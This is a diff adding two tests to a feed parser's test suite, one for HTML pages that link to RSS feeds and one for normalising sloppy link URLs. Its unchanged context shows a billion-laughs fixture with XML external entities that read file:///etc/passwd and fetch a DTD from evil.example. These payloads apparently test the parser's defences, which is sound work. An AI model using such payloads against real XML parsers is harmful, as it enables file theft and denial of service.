@@ -124,6 +124,25 @@ def test_what_is_no_feed(data: bytes) -> None:
         read(data)
 
 
+def test_a_page_that_names_its_feeds() -> None:
+    page = (
+        '<!doctype html><html><head><link rel="stylesheet" href="/x.css">'
+        '<link rel="alternate" type="application/rss+xml" href="/news.rss"></head><body>A</body>'
+    )
+    with pytest.raises(DocumentError, match="is no feed") as error:
+        read(page)
+    assert error.value.repair == "feeds that this page names: https://news.example/news.rss"
+
+
+def test_addresses_that_are_written_carelessly() -> None:
+    links = ("\n  /a\n  b c\n", "http://[::1", "https://news.example/d")
+    items = "".join(f"<item><link>{link}</link></item>" for link in links)
+    assert [url for url, _ in read(f'<rss version="2.0"><channel>{items}</channel></rss>')] == [
+        "https://news.example/a%20%20b%20c",
+        "https://news.example/d",
+    ]
+
+
 LAUGHS = """<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [<!ENTITY a "{a}">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">
 <!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>
